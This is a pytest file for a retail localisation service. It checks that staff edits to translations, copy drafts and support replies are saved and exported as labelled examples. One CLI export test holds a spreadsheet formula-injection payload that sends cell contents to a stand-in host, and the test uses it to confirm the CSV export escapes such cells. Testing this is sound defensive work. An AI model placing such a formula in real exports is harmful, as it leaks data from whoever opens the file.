"""Staff edits as labelled examples: a corrected translation (task `translation`), an edited copy
draft (`copy`) and a staff reply to a customer (`handoff`) each keep one example in the
corrections store, written with the edit itself; a refused edit writes neither; the API and
`borderless registry corrections TASK` export them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from borderless.backends import GENERATORS
from borderless.backends.base import Generation, GenerationRequest, Generator
from borderless.capabilities.support.assistant import ConversationState, Reply
from borderless.service import create_app
from borderless.storage import Database, open_database
from borderless.storage.localize import ProductTranslation, save_product_translations
from borderless.storage.registry import corrections
from borderless.storage.support import create_conversation, get_conversation, record_exchange

from .conftest import fake_env, fake_settings, post_form, retail_shop, run

KEY = {"Authorization": "Bearer test-key"}
ITEMS = (("85123A", "WHITE HANGING HEART T-LIGHT HOLDER"), ("71053", "WHITE METAL LANTERN"))


class Canned(Generator):
    name = "canned"

    def generate_batch(self, requests: Sequence[GenerationRequest]) -> list[Generation]:
        text = "A white hanging heart to hold a T-light."
        return [Generation(text, "stop", "canned", 50, 10) for _ in requests]


@pytest.fixture
def db_url(tmp_path: Path) -> str:
    url = retail_shop(tmp_path, ITEMS)
    db = open_database(fake_settings(tmp_path, database_url=url))
    save_product_translations(db, [ProductTranslation(
        "85123A", "de", "title", ITEMS[0][1], "WEISSER HAENGENDER HERZ", "bergamot", 0.41, (),
        True)])  # fmt: skip
    db.dispose()
    return url


@pytest.fixture
def shop(db_url: str, tmp_path: Path) -> Iterator[tuple[TestClient, Database]]:
    GENERATORS.register("canned", lambda arg, s: Canned(), replace=True)
    settings = fake_settings(tmp_path, database_url=db_url, generator="canned")
    db = open_database(settings)
    with TestClient(create_app(settings, db)) as client:
        yield client, db
    db.dispose()


def _exported(client: TestClient, task: str) -> list[dict[str, object]]:
    found = client.get(f"/v1/models/{task}/corrections", headers=KEY)
    assert found.status_code == 200, found.text
    return list(found.json()["data"])


def test_a_corrected_translation_is_a_labelled_example(shop: tuple[TestClient, Database]) -> None:
    client, db = shop
    url = "/v1/translations/85123A/de/title"
    fixed = client.put(url, json={"text": "Weißer Teelichthalter in Herzform"}, headers=KEY)
    assert fixed.status_code == 200, fixed.text
    # the machine's estimate and checks are not the person's text's (a walk)
    (shown,) = [r for r in fixed.json()["data"] if r["field"] == "title"]
    assert shown["checks"] == [] and shown["score"] is None and shown["reviewed"], shown
    (row,) = _exported(client, "translation")
    assert (row["input"], row["label"], row["predicted"], row["source"], row["subject"]) == (
        ITEMS[0][1], "Weißer Teelichthalter in Herzform", "WEISSER HAENGENDER HERZ",
        "translation.correct", "85123A/de/title")  # fmt: skip
    assert row["model_version"] == "bergamot" and row["actor"] != ""
    # Corrected again (the language in capitals, as codes elsewhere are taken: it was a 404):
    # the same example, the engine's text still the prediction.
    upper = url.replace("/de/", "/DE/")
    assert client.put(upper, json={"text": "Hängender Herz-Teelichthalter"}, headers=KEY).is_success
    (again,) = corrections(db, "translation")
    assert (again.label, again.predicted, again.model_version) == (
        "Hängender Herz-Teelichthalter", "WEISSER HAENGENDER HERZ", "bergamot")  # fmt: skip


@pytest.mark.parametrize(
    ("url", "body", "status", "field"),
    [
        ("/v1/translations/85123A/de/title", {"text": "x" * 20001}, 422, "text"),
        ("/v1/translations/85123A/de/colour", {"text": "Weiß"}, 422, "field"),
        ("/v1/translations/85123A/de/title", {"words": "Weiß"}, 422, "text"),
        ("/v1/translations/85123A/fr/title", {"text": "Blanc"}, 404, "sku"),
        ("/v1/translations/NOPE/de/title", {"text": "Weiß"}, 404, "sku"),
    ],
)
def test_a_bad_translation_correction_writes_no_example(
    shop: tuple[TestClient, Database], url: str, body: dict[str, str], status: int, field: str
) -> None:
    client, db = shop
    refused = client.put(url, json=body, headers=KEY)
    assert refused.status_code == status and refused.json()["field"] == field, refused.text
    assert corrections(db, "translation") == []


def test_the_dashboard_correction_form_keeps_the_example_too(
    shop: tuple[TestClient, Database],
) -> None:
    client, db = shop
    post_form(client, "/login", data={"key": "test-key"})  # staff sign in with the key
    form = {"language": "de", "text": "Herz-Teelichthalter"}
    done = post_form(client, "/products/85123A/translate/title", form, follow_redirects=False)
    assert done.status_code == 303 and "/login" not in done.headers["location"], done.text
    (row,) = corrections(db, "translation")
    assert row.label == "Herz-Teelichthalter"
    too_long = post_form(client, "/products/85123A/translate/title",
                         {"language": "de", "text": "y" * 20001})  # fmt: skip
    assert too_long.status_code == 422
    assert [c.label for c in corrections(db, "translation")] == ["Herz-Teelichthalter"]


def test_a_correction_is_judged_like_the_engine_and_saved_failing_only_on_override(
    shop: tuple[TestClient, Database],
) -> None:
    """A correction saved unchanged, or in English, became "reviewed" and the memory served it
    as perfect (score 1.0): a walk. It gets the verdict; one needing review needs override."""
    client, db = shop
    url = "/v1/translations/85123A/de/title"
    english = client.put(url, json={"text": ITEMS[0][1]}, headers=KEY)
    assert english.status_code == 422 and english.json()["field"] == "text", english.text
    assert "needs review" in english.json()["message"]
    assert "override" in english.json()["message"]
    assert corrections(db, "translation") == []  # nothing written
    listed = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
    assert listed["data"][0]["text"] == "WEISSER HAENGENDER HERZ"
    kept = client.put(url, json={"text": ITEMS[0][1], "override": True}, headers=KEY)
    assert kept.status_code == 200 and kept.json()["data"][0]["reviewed"], kept.text
    # the page: refused with what was typed kept and the box to tick, then saved with it
    post_form(client, "/login", data={"key": "test-key"})
    form = {"language": "de", "text": "WHITE HEART HOLDER"}
    page = post_form(client, "/products/85123A/translate/title", form)
    assert page.status_code == 422 and "needs review" in page.text
    assert "WHITE HEART HOLDER</textarea>" in page.text and 'name="override"' in page.text
    done = post_form(client, "/products/85123A/translate/title", form | {"override": "true"},
                     follow_redirects=False)  # fmt: skip
    assert done.status_code == 303
    assert [c.label for c in corrections(db, "translation")][-1] == "WHITE HEART HOLDER"


def test_a_translation_of_an_earlier_title_is_shown_outdated(
    shop: tuple[TestClient, Database],
) -> None:
    """The title changed after it was translated: the old translation was shown as current."""
    client, _ = shop
    before = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
    assert before["data"][0]["outdated"] is False
    changed = client.patch("/v1/products/85123A", json={"title": "RED HANGING STAR HOLDER"},
                           headers=KEY)  # fmt: skip
    assert changed.status_code == 200, changed.text
    after = client.get("/v1/translations", params={"sku": "85123A"}, headers=KEY).json()
    assert after["data"][0]["outdated"] is True
    post_form(client, "/login", data={"key": "test-key"})
    page = client.get("/products/85123A/translate", params={"language": "de"})
    assert 'id="outdated-title"' in page.text and "translate it again" in page.text


def test_an_edited_copy_draft_is_a_labelled_example(shop: tuple[TestClient, Database]) -> None:
    client, db = shop
    body = {"sku": "85123A", "kind": "description", "language": "en", "n": 1, "seed": 1}
    (draft,) = client.post("/v1/copy", json=body, headers=KEY).json()["data"]
    edited = client.patch(f"/v1/copy/{draft['id']}", json={"text": "A white heart for a T-light."},
                          headers=KEY)  # fmt: skip
    assert edited.status_code == 200, edited.text
    (row,) = _exported(client, "copy")
    assert row["label"] == "A white heart for a T-light."
    assert row["predicted"] == draft["text"] and row["model_version"] == "canned"
    assert row["source"] == "copy.edit" and row["subject"] == f"draft {draft['id']}"
    text = str(row["input"])
    assert text.startswith("description in en for SKU 85123A:") and "HEART" in text.upper()
    # Editing the edit: still one example of the generated draft, with the latest label.
    again = client.patch(f"/v1/copy/{edited.json()['id']}", json={"text": "A heart T-light."},
                         headers=KEY)  # fmt: skip
    assert again.status_code == 200
    # the same text again is the same draft, not one more version (four at once made four)
    twice = client.patch(f"/v1/copy/{edited.json()['id']}", json={"text": "A heart T-light."},
                         headers=KEY)  # fmt: skip
    assert twice.json()["id"] == again.json()["id"]
    unchanged = client.patch(f"/v1/copy/{again.json()['id']}", json={"text": "A heart T-light."},
                             headers=KEY)  # fmt: skip
    assert unchanged.json()["id"] == again.json()["id"]
    (latest,) = corrections(db, "copy")
    assert (latest.label, latest.predicted) == ("A heart T-light.", draft["text"])
    for bad, status in (({"text": "z" * 20001}, 422), ({"text": "   "}, 422),
                        ({"text": "Fine.", "status": "published"}, 422)):  # fmt: skip
        refused = client.patch(f"/v1/copy/{draft['id']}", json=bad, headers=KEY)
        assert refused.status_code == status, (bad, refused.text)
        assert refused.json()["field"] in ("text", "status")
    assert client.patch("/v1/copy/999999", json={"text": "Hi."}, headers=KEY).status_code == 404
    assert [c.label for c in corrections(db, "copy")] == ["A heart T-light."]


def _handed_off(db: Database) -> str:
    conversation, _ = create_conversation(db, None)
    state = ConversationState(None, "en", 0, "handoff")
    record_exchange(db, conversation, "My parcel arrived broken, I want my money back",
                    Reply("I will pass you to a colleague.", "en", "refund", 0.4,
                          handoff="angry customer", state=state))  # fmt: skip
    return conversation


def test_a_staff_reply_to_a_handoff_is_a_labelled_example(
    shop: tuple[TestClient, Database],
) -> None:
    client, db = shop
    conversation = _handed_off(db)
    url = f"/v1/support/conversations/{conversation}/replies"
    answer = "Sorry about that: a refund is on its way."
    assert client.post(url, json={"text": answer}, headers=KEY).status_code == 200
    (row,) = _exported(client, "handoff")
    assert (row["input"], row["label"], row["predicted"], row["source"], row["subject"]) == (
        "My parcel arrived broken, I want my money back", answer,
        "I will pass you to a colleague.", "support.reply", f"{conversation}:3")  # fmt: skip
    # A follow-up with no new customer message is no example.
    assert client.post(url, json={"text": "Anything else?"}, headers=KEY).status_code == 200
    assert len(corrections(db, "handoff")) == 1
    for bad in ({"text": "w" * 5001}, {"text": ""}, {"reply": "Hello"}):
        refused = client.post(url, json=bad, headers=KEY)
        assert refused.status_code == 422 and refused.json()["field"] == "text", refused.text
    missing = client.post("/v1/support/conversations/cv_nope/replies", json={"text": "Hi"},
                          headers=KEY)  # fmt: skip
    assert missing.status_code == 404
    assert len(corrections(db, "handoff")) == 1
    assert len(get_conversation(db, conversation).messages) == 4


def test_the_cli_exports_each_task(
    shop: tuple[TestClient, Database], db_url: str, tmp_path: Path
) -> None:
    client, db = shop
    fixed = {"text": "Weißer Teelichthalter in Herzform"}
    client.put("/v1/translations/85123A/de/title", json=fixed, headers=KEY)
    body = {"sku": "85123A", "kind": "description", "language": "en", "n": 1, "seed": 1}
    (draft,) = client.post("/v1/copy", json=body, headers=KEY).json()["data"]
    client.patch(f"/v1/copy/{draft['id']}", json={"text": "A heart."}, headers=KEY)
    conversation = _handed_off(db)
    client.post(f"/v1/support/conversations/{conversation}/replies", json={"text": "On it."},
                headers=KEY)  # fmt: skip
    env = fake_env(tmp_path, database_url=db_url)
    expected = {
        "translation": ("Weißer Teelichthalter in Herzform", "translation.correct"),
        "copy": ("A heart.", "copy.edit"),
        "handoff": ("On it.", "support.reply"),
    }
    for task, (label, source) in expected.items():
        done = run("registry", "corrections", task, env=env)
        assert done.returncode == 0, done.stderr
        (row,) = list(csv.DictReader(io.StringIO(done.stdout)))
        assert (row["label"], row["source"]) == (label, source) and row["predicted"], row
    # a cell a spreadsheet would run is guarded, as in the dashboard's file (an attack)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    # (the verdict refuses it: saved with override, as a person who checked it would)
    assert client.put("/v1/translations/85123A/de/title", json={"text": formula, "override": True},
                      headers=KEY).status_code == 200  # fmt: skip
    done = run("registry", "corrections", "translation", env=env)
    labels = [row["label"] for row in csv.DictReader(io.StringIO(done.stdout))]
    assert "'" + formula in labels and formula not in labels, labels


def test_the_models_page_counts_corrections_and_downloads_them(
    shop: tuple[TestClient, Database],
) -> None:
    client, _ = shop
    url = "/v1/translations/85123A/de/title"
    assert client.put(url, json={"text": "Teelichthalter"}, headers=KEY).status_code == 200
    signed_out = client.get("/models/translation/corrections.csv", follow_redirects=False)
    assert signed_out.status_code in (303, 307) and "text/csv" not in signed_out.headers.get(
        "content-type", ""
    )
    post_form(client, "/login", data={"key": "test-key"})
    page = client.get("/models").text
    listed = page[page.index('id="correction-list"') :]
    assert "translation" in listed and "collected only" in listed and "Download CSV" in listed
    got = client.get("/models/translation/corrections.csv")
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    (row,) = list(csv.DictReader(io.StringIO(got.text)))
    assert (row["input"], row["label"], row["source"]) == (
        ITEMS[0][1],
        "Teelichthalter",
        "translation.correct",
    )
    assert client.get("/models/nothing/corrections.csv").status_code == 404
